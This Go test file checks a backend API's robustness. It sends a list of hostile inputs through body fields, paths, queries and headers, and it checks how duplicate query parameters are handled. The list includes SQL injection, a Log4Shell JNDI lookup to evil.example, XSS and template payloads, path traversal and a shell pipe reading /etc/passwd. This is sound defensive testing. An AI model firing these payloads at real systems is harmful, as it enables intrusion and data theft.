package api_test

import (
	"fmt"
	"maps"
	"slices"
	"strings"
	"testing"

	"tavlen/backend/demo"
	"tavlen/backend/domain"
	"tavlen/backend/testkit"
)

// hostile are words that have meant something else to some program: to a database, a
// shell, a template, a log, a page, an eye.
var hostile = []string{
	`'`, `"`, `\`, "`", `';--`, `' OR '1'='1`, `"); DROP TABLE plan;--`, `1; SELECT pg_sleep(5)`, `' UNION SELECT sealed FROM person--`, `%27`, `’ OR ’1’=’1`, `＇`, `ʼ`, "%", "_", "$1", "?", "@p0", ":id",
	`${jndi:ldap://evil.example/a}`, `{{7*7}}`, `<script>alert(1)</script>`, `<img src=x onerror=alert(1)>`, `javascript:alert(1)`, `../../etc/passwd`, `|cat /etc/passwd`, `=1+1`,
	"linje\nto", "\u202etxt.exe", "a\u200bb", "👩‍👩‍👧‍👦", "ﷺ", "%s%n%d", "null", "undefined", "0101010101",
}

// ASVS V1.2.4: every field that holds words, in every operation that writes, takes hostile
// words as words: refused by a rule, or kept as they are and given back the same.
func TestHostileWordsAreWords(t *testing.T) {
	t.Parallel()
	testkit.Databases(t, func(t *testing.T, database string) {
		w := &world{Server: testkit.NewServer(t, testkit.Options{Database: database, Demo: true}), t: t, clients: map[string]*testkit.Client{}}
		schemas := bodySchemas(t, w.Server)
		senders := w.senders()
		for _, op := range slices.Sorted(maps.Keys(senders)) {
			s := senders[op]
			for _, field := range slices.Sorted(maps.Keys(schemas[op])) {
				if !slices.Contains(schemas[op][field], "string") || op == "createSession" {
					continue
				}
				for _, words := range packed {
					w.sendWord(op, s, field, words)
				}
			}
		}
		for citizen := range plans {
			if citizen != "peter" && w.plan(map[string]string{"sofie": "tobias", "birthe": "xenia", "daryna": "ingrid"}[citizen], citizen)["rev"] == "" {
				t.Errorf("the plan of %s is gone", citizen)
			}
		}
	})
}

// packed are the hostile words by the handful, each short enough for a title: a write for
// each word alone would be thousands.
var packed = func() []string {
	var out []string
	for some := range slices.Chunk(hostile, 7) {
		out = append(out, strings.Join(some, " "))
	}
	return out
}()

func (w *world) sendWord(op string, s sender, field, word string) {
	w.t.Helper()
	body := maps.Clone(s.body)
	body[field] = word
	headers := slices.Clone(s.headers)
	if len(headers) > 0 {
		headers[1] = w.rev(s.who, "peter")
	}
	at := s.path
	if op == "sendMessage" || op == "createCitizen" {
		at = at[:len(at)-22] + newID()
	}
	if op == "createCitizen" {
		body["plan"] = map[string]any{"id": newID()}
	}
	what := fmt.Sprintf("%s %s %q", op, field, word)
	r := w.as(s.who).Do(s.method, at, body, headers...)
	if r.Status >= 500 || r.Status == 200 && r.Code() != "" {
		w.t.Errorf("%s: %d %s", what, r.Status, r.Body)
	}
	if r.Status != 200 {
		if r.Code() == string(domain.CodeCodeWrong) || len(word) < 3 {
			return
		}
		checkProblem(w.t, what, r, r.Status, domain.Code(r.Code()), word)
		return
	}
	if rooms[op].list == "" || field == "why" {
		return
	}
	thing := item(w.plan(s.who, "peter"), rooms[op].list, s.path[len(s.path)-22:])
	if got := thing[field]; got != word && got != strings.TrimSpace(word) {
		w.t.Errorf("%s: came back as %q", what, got)
	}
}

// Whatever stands in a path, a query or a header: an answer without a fault, without a
// word of it, and nothing changed.
func TestHostileParameters(t *testing.T) {
	t.Parallel()
	ids := slices.Concat(hostile, []string{"\x00", "a\x00b", "\xff", "\xc3\x28", strings.Repeat("a", 3000), strings.Repeat("A", 22), strings.Repeat("=", 22), "AAAAAAAAAAAAAAAAAAAAA=", "-1", "0", "1", "null", "system",
		string(demo.PersonID("peter")), string(planOf("sofie")), "Aa%00AAAAAAAAAAAAAAAAAA"})
	testkit.Databases(t, func(t *testing.T, database string) {
		w := &world{Server: testkit.NewServer(t, testkit.Options{Database: database, Demo: true}), t: t, clients: map[string]*testkit.Client{}}
		senders := w.senders()
		w.unchanged("hostile parameters", func() {
			for _, word := range ids {
				e := escape(word)
				part := strings.ReplaceAll(e, "+", "%20")
				for _, at := range []string{"/plans/" + part, "/plans/" + part + "/changes", "/plans/" + part + "/messages", "/plans/" + part + "/stream",
					path("peter", "messages?thread="+e), path("peter", "messages?before="+e), path("peter", "messages?limit="+e), path("peter", "changes?purpose="+e), path("peter", "?x="+e), path("peter", "?"+e+"=x")} {
					w.harmless("GET "+at, "maja", "GET", at, nil)
				}
				for op, s := range senders {
					if op == "createSession" || op == "endOtherSessions" || op == "testPush" || domain.ID(word).Valid() {
						continue // see the matrix for ids that could be somebody's
					}
					for _, old := range pathIDs(s.path) {
						w.harmless(op+" "+word, s.who, s.method, strings.Replace(s.path, old, part, 1), s.body, s.headers...)
					}
					for field, was := range s.body {
						if was, is := was.(string); is && domain.ID(was).Valid() {
							body := maps.Clone(s.body)
							body[field] = word
							w.harmless(op+" "+field+" "+word, s.who, s.method, s.path, body, s.headers...)
						}
					}
					if op == "subscribePush" || op == "issueCode" || op == "markMessagesRead" || op == "putCitizenCpr" {
						continue // these do the same however often they are sent
					}
					w.harmless(op+" key "+word, s.who, s.method, s.path, s.body, "Idempotency-Key", line(word)+"x", "If-Match", `"x"`)
				}
			}
		})
	})
}

// line makes of a word what a header may hold.
func line(word string) string {
	return strings.Map(func(r rune) rune {
		if r < 0x20 || r > 0x7e {
			return '?'
		}
		return r
	}, word)
}

func pathIDs(path string) []string {
	var out []string
	for part := range strings.SplitSeq(path, "/") {
		if domain.ID(part).Valid() {
			out = append(out, part)
		}
	}
	return out
}

// harmless sends something and wants no fault: a refusal in our own form, or an answer.
func (w *world) harmless(what, who, method, at string, body map[string]any, headers ...string) {
	w.t.Helper()
	var sent any
	if body != nil {
		sent = body
	}
	r := w.as(who).Do(method, at, sent, headers...)
	switch {
	case r.Status >= 500:
		w.t.Errorf("%s: %d %s", what, r.Status, r.Body)
	case r.Status >= 400:
		checkProblem(w.t, what, r, r.Status, domain.Code(r.Code()))
	case method != "GET":
		w.t.Errorf("%s is taken: %d %s", what, r.Status, r.Body)
	}
}

// What an address does not know, or is told twice, is refused: nothing is picked for the
// sender (ASVS V15.3.7).
func TestOddQueries(t *testing.T) {
	t.Parallel()
	w := newWorld(t, testkit.Options{})
	withMaja := string(demo.ThreadID(planOf("peter")))
	for at, status := range map[string]int{
		path("peter", "messages?thread="+withMaja+"&thread="+id("th-peter-lone")): 422, path("peter", "messages?thread="+withMaja+"&thread="+withMaja): 422,
		path("peter", "messages?limit=1&limit=2"): 422, path("peter", "changes?since=x&since=y"): 422, path("peter", "changes?since=x&%73ince=y"): 422, path("peter") + "?id=1&id=2": 422, path("peter") + "?plan=" + newID(): 422,
		path("peter") + "?" + canary + "=1": 422, "/me?x": 422, "/me?": 200, "/citizens?limit=1": 403, path("peter", "messages?limit=0"): 422, path("peter", "messages?limit=101"): 422, path("peter", "messages?limit=-1"): 422,
		path("peter", "messages?limit=1e2"): 422, path("peter", "messages?limit=999999999999999999999"): 422, path("peter", "messages?limit=abc"): 422, path("peter", "messages?limit="): 200,
		path("peter", "messages?limit=100"): 200, path("peter", "messages?LIMIT=1"): 422, path("peter", "messages?limit[]=1"): 422, path("peter", "messages?limit=%31%30"): 200,
		path("peter", "messages?before="+newID()): 404, path("peter", "messages?before="+id("l01")): 404, path("peter", "changes?since="+strings.Repeat("a", 65)): 422, path("peter") + "?purpose=" + strings.Repeat("a", 300): 422,
	} {
		r := w.as("peter").Do("GET", at, nil)
		if r.Status != status {
			t.Errorf("%s: %d %s, want %d", at, r.Status, r.Body, status)
		} else if status >= 400 {
			checkProblem(t, at, r, status, domain.Code(r.Code()), canary, "<script")
		}
	}
}
